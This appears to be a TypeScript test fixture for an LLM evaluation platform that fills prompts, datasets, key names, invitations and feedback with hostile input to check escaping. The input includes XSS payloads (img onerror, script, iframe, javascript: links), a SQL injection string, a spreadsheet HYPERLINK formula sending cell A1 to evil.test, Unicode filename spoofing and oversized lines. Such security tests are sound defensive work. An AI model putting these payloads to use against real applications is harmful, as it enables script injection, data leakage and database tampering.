import { type Client, createClient } from "@assay/client";
import { vi } from "vitest";
import type { StartedServer } from "../../kit/start-server.ts";
import { TONE_JUDGE } from "./tone-judge.ts";

/** What every page must show as it is written. */
export const MARK = "<img src=x";
export const HOSTILE = [
  `${MARK} onerror="window.hit = 'img'"><script>window.hit = 'script'</script>`,
  "<iframe srcdoc='<script>top.hit = 1</script>'></iframe></textarea></style></title>",
  "[click me](javascript:window.hit='link') ![](https://evil.test/pixel.png)",
  "safe \u202egnp.exe\u202c end \u001b[31m",
  `z\u0300\u0301\u0302${"\u0303".repeat(200)}algo`,
  "'; DROP TABLE results; --",
].join("\n");
const NOTE = HOSTILE.slice(0, 900);
const NAME = `${MARK} onerror="window.hit='name'"> \u202eemac`;
const SHORT = NAME.slice(0, 60);
const LONG_LINE = `${MARK} onerror="window.hit = 'long'">${"x".repeat(1_000_000)}`;
/** Nearly as long as a text of a prompt may be. */
const LONG_TEXT = `${MARK}>${"x".repeat(90_000)}`;
const FORMULA = `=HYPERLINK("https://evil.test?"&A1;"${MARK}")`;
const PASSWORD = "four plain words in a row";
const WAIT = { timeout: 120_000, interval: 200 };

/** What was made under names that only the server knows. */
export interface Hostile {
  runs: string[];
  change: string;
  trace: string;
  /** Of an invitation into a tenant with such a name. */
  invitation: string;
  /** The key with such a name, which wrote all of it. */
  key: string;
}

/** What a provider that means ill answers: a line of a megabyte, a formula, and otherwise everything else, U+0000 too. */
export function hostileAnswer(question: string): string {
  if (question.startsWith("long")) return LONG_LINE;
  return question.startsWith("formula") ? FORMULA : `${HOSTILE}\n\u0000 after nothing`;
}

/** Cases in the dataset, by the names that their addresses need. */
export const CASE_KEYS = {
  plain: `0 ${NAME}`,
  longAnswer: `1 ${NAME}`,
  longQuestion: `2 ${NAME}`,
  formula: `=3+${NAME}`,
};

/** Everything that somebody may name or write in a tenant, written by somebody who means ill. */
export async function fillHostile({ url, keys }: StartedServer, providerUrl: string): Promise<Hostile> {
  const admin = createClient({ baseUrl: url, key: keys.airline });
  const { secret: key } = await admin.createKey({ name: NAME, role: "admin" });
  const airline = createClient({ baseUrl: url, key });
  await airline.createConnection({ slug: "hostile", kind: "openai-compatible", baseUrl: providerUrl });
  await airline.createHostedModel({ slug: "hostile", connection: "hostile", providerModel: NAME });
  await fillPrompts(airline);
  await fillDataset(airline);
  const runs = await measure(airline);
  const change = await moveLabel(airline);
  await annotate(airline, runs[1] ?? "");
  await join(admin, url);
  const invitation = await inviteIntoSuchTenant(createClient({ baseUrl: url, key: keys.operator }));
  return { runs, change, trace: await chat(airline, { url, key }), invitation, key };
}

async function fillPrompts(airline: Client): Promise<void> {
  const contentOf = (content: string) => ({
    messages: [{ role: "system" as const, content }, { placeholder: "history" as const }],
    model: "hostile",
  });
  await airline.createPrompt({ slug: "hostile", description: HOSTILE });
  await airline.setTraceSettings({ prompt: "hostile", sampleRate: 1 });
  for (const end of ["one", "two"]) {
    await airline.addPromptVersion({
      prompt: "hostile",
      note: NOTE,
      content: contentOf(`${HOSTILE}\n${end}`),
    });
  }
  await airline.createPrompt({ slug: "hostile-long" });
  for (const end of ["one", "two"]) {
    await airline.addPromptVersion({ prompt: "hostile-long", content: contentOf(`${LONG_TEXT} ${end}`) });
  }
}

async function fillDataset(airline: Client): Promise<void> {
  await airline.createDataset({ slug: "hostile", description: HOSTILE });
  const cases = [
    { key: CASE_KEYS.plain, content: HOSTILE },
    { key: CASE_KEYS.longAnswer, content: `long ${HOSTILE}` },
    { key: CASE_KEYS.longQuestion, content: LONG_TEXT },
    { key: CASE_KEYS.formula, content: `formula ${MARK}` },
  ].map(({ key, content }) => ({
    key,
    messages: [{ role: "user", content }],
    expected: key === CASE_KEYS.formula ? FORMULA : HOSTILE,
    tags: [SHORT],
  }));
  const text = cases.map((each) => JSON.stringify(each)).join("\n");
  await airline.importDataset({ dataset: "hostile", format: "jsonl", text, note: NOTE });
}

async function measure(airline: Client): Promise<string[]> {
  await airline.putSuite({
    suite: "hostile",
    prompt: "hostile",
    dataset: "hostile",
    scorers: [
      { type: "contains", name: SHORT, options: { values: [HOSTILE] } },
      { type: "exact-match", name: "exact" },
      TONE_JUDGE,
    ],
    gate: { label: "production", minCases: 1, minScore: { score: 0.5, on: "mean" } },
  });
  await airline.moveLabel({ prompt: "hostile", label: "production", version: 1 });
  await airline.setGate({ prompt: "hostile", label: "production", suite: "hostile" });
  const runs: string[] = [];
  for (const version of [1, 2]) {
    const { id } = await airline.startRun({ suite: "hostile", version });
    runs.push(id);
    await vi.waitUntil(async () => (await airline.getRun({ runId: id })).status === "completed", WAIT);
  }
  return runs;
}

/** Past the gate with such a reason, back with another, and a proposal to do it again. */
async function moveLabel(airline: Client): Promise<string> {
  const move = { prompt: "hostile", label: "production", version: 2 };
  const expiresAt = new Date(Date.now() + 3_600_000).toISOString();
  await airline.moveLabel({ ...move, override: { reason: NOTE, expiresAt } });
  await airline.rollbackLabel({ ...move, version: 1, reason: NOTE });
  const { id } = await airline.proposeChange({ ...move, title: NAME, description: HOSTILE });
  return id;
}

async function annotate(airline: Client, run: string): Promise<void> {
  const queue = { slug: "hostile", prompt: "hostile", metric: "tone", instructions: HOSTILE };
  await airline.createAnnotationQueue(queue);
  await airline.fillAnnotationQueue({ queue: "hostile", run });
}

/** Asks as an app does, and answers what it was given: a comment on the answer. */
async function chat(airline: Client, { url, key }: { url: string; key: string }): Promise<string> {
  const post = (path: string, body: object) =>
    fetch(url + path, {
      method: "POST",
      headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
      body: JSON.stringify(body),
    });
  const messages = [{ role: "user", content: HOSTILE }];
  const response = await post("/v1/chat/completions", { model: "prompt:hostile@1", messages });
  const token = response.headers.get("x-assay-feedback-token");
  await response.json();
  await post("/v1/feedback", { token, score: 0, comment: HOSTILE, correction: HOSTILE });
  const { items } = await airline.listTraces({ prompt: "hostile", limit: 1 });
  return items[0]?.id ?? "";
}

/** A colleague who calls themselves so. */
async function join(admin: Client, baseUrl: string): Promise<void> {
  const { token } = await admin.createInvitation({ email: "mallory@example.com", role: "viewer" });
  await createClient({ baseUrl }).acceptInvitation({ token, name: NAME, password: PASSWORD });
}

async function inviteIntoSuchTenant(operator: Client): Promise<string> {
  const { tenant } = await operator.createTenant({ slug: "mallory", name: NAME });
  const { token } = await operator.inviteToTenant({ tenantId: tenant.id, email: "ann@example.com" });
  return token;
}
